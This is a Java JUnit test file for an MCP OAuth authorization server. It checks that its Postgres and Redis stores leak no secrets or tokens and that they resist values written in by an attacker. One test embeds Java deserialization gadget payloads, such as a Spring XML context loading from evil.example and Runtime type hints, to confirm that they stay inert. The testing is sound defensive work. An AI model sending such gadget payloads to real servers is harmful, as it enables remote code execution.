package io.github.mcpoauth.attack;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import org.springframework.data.redis.connection.DataType;
import org.springframework.data.redis.connection.RedisConnection;
import org.springframework.jdbc.core.simple.JdbcClient;

import io.github.mcpoauth.support.ClientRequests;
import io.github.mcpoauth.support.Http;
import io.github.mcpoauth.support.OAuthFlow;
import io.github.mcpoauth.support.Postgres;
import io.github.mcpoauth.support.Redis;
import io.github.mcpoauth.support.Reply;
import io.github.mcpoauth.support.SigningKeyMaterial;
import io.github.mcpoauth.support.TestApplication;
import io.github.mcpoauth.support.TestProvider;
import io.github.mcpoauth.support.TestServer;
import io.github.mcpoauth.support.UpstreamLogin;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Somebody who can read or write all that is stored.
 */
class StoredSecretAttackTests {

	private static final String SECRET = "a-canary-secret-of-more-than-thirty-two-characters";

	private static final String ADMIN_KEY = "a-canary-admin-key-of-more-than-thirty-two-characters";

	private static final String CONFIDENTIAL = ",\"token_endpoint_auth_method\":\"client_secret_post\"";

	@AutoClose
	private static final TestProvider provider = new TestProvider(UpstreamLogin.CLIENT_ID);

	private static TestServer start(String... store) {
		return TestServer
			.startWithoutUser(new Class<?>[] { TestApplication.class },
					Stream.concat(Arrays.stream(store),
							Stream.of("mcp.oauth.mode=authorization-server", "mcp.oauth.resource.scopes=mcp:connect",
									SigningKeyMaterial.CONFIGURED, "mcp.oauth.secret=" + SECRET,
									"mcp.oauth.server-registry.admin-key=" + ADMIN_KEY,
									"mcp.oauth.authorization-server.consent-time-to-live=1d",
									"mcp.oauth.upstream.issuer-uri=" + provider.issuer(),
									"mcp.oauth.upstream.client-id=" + UpstreamLogin.CLIENT_ID,
									"mcp.oauth.upstream.client-secret=a-canary-of-the-client-secret",
									"mcp.oauth.upstream.login.keep-tokens=true"))
						.toArray(String[]::new));
	}

	/**
	 * What every store has to show.
	 */
	abstract static class Contract {

		private final TestServer server;

		Contract(TestServer server) {
			this.server = server;
		}

		/** All that is stored, as text. */
		abstract String dump();

		/** Puts something else in the place of all that is stored of logins. */
		abstract void overwrite(String content);

		@Tag("M15")
		@Test
		void storeWhenDumpedThenNoSecretOfAnybody() {
			UpstreamLogin login = UpstreamLogin.at(this.server, provider);
			List<String> canaries = new ArrayList<>(List.of(SECRET, ADMIN_KEY, ClientRequests.VERIFIER,
					TestProvider.CODE, "a-canary-of-the-client-secret", "the-access-token-of-the-provider",
					"the-refresh-token-of-the-provider"));
			Map<String, Object> tokens = login.tokens((claims) -> {
			});
			add(canaries, tokens);
			add(canaries, login.flow().token(login.flow().refreshRequest((String) tokens.get("refresh_token"))).json());
			canaries.add(login.browser().cookie("JSESSIONID"));
			Element page = pendingConsent(login);
			canaries.add(OAuthFlow.fields(page.selectFirst("form")).get("_csrf"));
			canaries.add(login.flow().decide(page, "approve").redirectParameters().get("code"));
			Map<String, Object> client = register(CONFIDENTIAL).json();
			canaries.add((String) client.get("client_secret"));
			canaries.add((String) client.get("registration_access_token"));
			Reply added = new Http().postJson(this.server.url("/api/servers"),
					"{\"resource_url\":\"https://notes.example.com/mcp\",\"scopes\":[\"notes:read\"]}", "Authorization",
					"Bearer " + ADMIN_KEY);
			canaries.add((String) added.json().get("api_key"));

			String dump = dump();
			assertThat(dump).as("what is looked for is there").contains((String) client.get("client_id"));
			assertThat(canaries).doesNotContainNull().allSatisfy((canary) -> assertThat(dump).doesNotContain(canary));
			// As little is known of who uses what
			assertThat(dump).doesNotContain("mcp:connect", "alice@example.com", ClientRequests.REDIRECT_URI);
		}

		private Element pendingConsent(UpstreamLogin login) {
			Map<String, String> request = login.flow().request();
			request.put("scope", "mcp:connect");
			Reply consent = login.flow().authorize(request);
			return Jsoup.parse(login.browser().get(consent.location()).body());
		}

		private void add(List<String> canaries, Map<String, Object> tokens) {
			canaries.add((String) tokens.get("access_token"));
			canaries.add((String) tokens.get("refresh_token"));
		}

		/**
		 * Names of classes in what a client sends are text, also when they are read
		 * again.
		 */
		@Tag("M17")
		@Test
		void storeWhenClientSendsNamesOfClassesThenTheyStayText() {
			String gadget = "{\"@class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\","
					+ "\"configLocation\":\"http://evil.example/x.xml\"}";
			Reply registered = register(",\"@class\":\"javax.swing.JEditorPane\",\"software_id\":\"java.lang.Runtime\","
					+ "\"contacts\":[\"java.net.URL\",\"http://evil.example\"],\"@type\":" + gadget);
			assertThat(registered.status()).isEqualTo(201);
			OAuthFlow flow = OAuthFlow.withClientId(this.server, (String) registered.json().get("client_id"));
			UpstreamLogin login = UpstreamLogin.at(this.server, provider, "upstream", flow);
			login.login();
			Map<String, String> request = flow.request();
			request.put("state", gadget);
			request.put("@class", "java.lang.Runtime");
			request.put("claims", gadget);
			Reply consent = flow.authorize(request);
			Reply redirect = flow.decide(Jsoup.parse(flow.browser().get(consent.location()).body()), "approve");
			assertThat(redirect.redirectParameters()).containsEntry("state", gadget);
			assertThat(flow.token(flow.tokenRequest(redirect.redirectParameters().get("code"))).status())
				.isEqualTo(200);
		}

		/** What was not sealed here, for this place, is as good as nothing. */
		@Tag("M17")
		@Test
		void storeWhenSomebodyWritesIntoItThenNothingOfItIsRead() {
			for (String content : List.of("{\"@class\":\"java.lang.Runtime\"}", "[\"java.net.URL\",\"http://a\"]",
					"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "null", "x")) {
				UpstreamLogin login = UpstreamLogin.at(this.server, provider);
				Map<String, Object> tokens = login.tokens((claims) -> {
				});
				overwrite(content);
				Reply reply = login.flow().token(login.flow().refreshRequest((String) tokens.get("refresh_token")));
				assertThat(reply.status()).as(content).isEqualTo(400);
				assertThat(reply.json()).containsEntry("error", "invalid_grant");
			}
		}

		private Reply register(String moreMembers) {
			return new Http().postJson(this.server.url("/oauth2/register"), ClientRequests.registration(moreMembers));
		}

	}

	@Nested
	class OnPostgres extends Contract {

		private static final String NAME = "dump_" + System.nanoTime();

		private static final String URL = Postgres.database(NAME);

		@AutoClose
		private static final TestServer server = start("mcp.oauth.authorization-server.store=jdbc",
				"mcp.oauth.registration.store=jdbc", "mcp.oauth.registration.jdbc.initialize-schema=always",
				"mcp.oauth.authorization-server.jdbc.initialize-schema=always", "spring.autoconfigure.exclude=",
				"spring.datasource.url=" + URL, "spring.datasource.username=postgres");

		private final JdbcClient jdbc = JdbcClient.create(Postgres.dataSource(NAME));

		OnPostgres() {
			super(server);
		}

		@Override
		String dump() {
			StringBuilder dump = new StringBuilder();
			List<String> tables = this.jdbc
				.sql("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")
				.query(String.class)
				.list();
			for (String table : tables) {
				dump.append(this.jdbc.sql("SELECT * FROM " + table).query().listOfRows());
			}
			return dump.toString();
		}

		@Override
		void overwrite(String content) {
			assertThat(this.jdbc.sql("UPDATE mcp_oauth_authorization SET content = ?").param(content).update())
				.isPositive();
		}

	}

	@Nested
	class OnRedis extends Contract {

		private static final String PREFIX = "dump-" + UUID.randomUUID() + ":";

		@AutoClose
		private static final TestServer server = start("mcp.oauth.authorization-server.store=redis",
				"mcp.oauth.registration.store=redis", "mcp.oauth.authorization-server.redis.key-prefix=" + PREFIX,
				"mcp.oauth.registration.redis.key-prefix=" + PREFIX, "spring.data.redis.port=" + Redis.shared().port());

		OnRedis() {
			super(server);
		}

		@Override
		String dump() {
			try (RedisConnection redis = Redis.shared().connections().getConnection()) {
				StringBuilder dump = new StringBuilder();
				for (byte[] key : redis.keyCommands().keys((PREFIX + "*").getBytes(StandardCharsets.UTF_8))) {
					dump.append(text(key)).append('=').append(value(redis, key)).append('\n');
				}
				return dump.toString();
			}
		}

		private static String value(RedisConnection redis, byte[] key) {
			return switch (redis.keyCommands().type(key)) {
				case STRING -> text(redis.stringCommands().get(key));
				case SET -> redis.setCommands().sMembers(key).stream().map(OnRedis::text).toList().toString();
				case ZSET -> redis.zSetCommands().zRange(key, 0, -1).stream().map(OnRedis::text).toList().toString();
				case LIST -> redis.listCommands().lRange(key, 0, -1).stream().map(OnRedis::text).toList().toString();
				case HASH -> redis.hashCommands()
					.hGetAll(key)
					.entrySet()
					.stream()
					.map((entry) -> text(entry.getKey()) + "=" + text(entry.getValue()))
					.toList()
					.toString();
				default -> throw new AssertionError("No way to read " + text(key));
			};
		}

		private static String text(byte[] bytes) {
			return new String(bytes, StandardCharsets.UTF_8);
		}

		@Override
		void overwrite(String content) {
			byte[] field = "content".getBytes(StandardCharsets.UTF_8);
			int written = 0;
			try (RedisConnection redis = Redis.shared().connections().getConnection()) {
				for (byte[] key : redis.keyCommands().keys((PREFIX + "*").getBytes(StandardCharsets.UTF_8))) {
					if (redis.keyCommands().type(key) == DataType.HASH
							&& redis.hashCommands().hExists(key, "principal".getBytes(StandardCharsets.UTF_8))) {
						redis.hashCommands().hSet(key, field, content.getBytes(StandardCharsets.UTF_8));
						written++;
					}
				}
			}
			assertThat(written).isPositive();
		}

	}

}
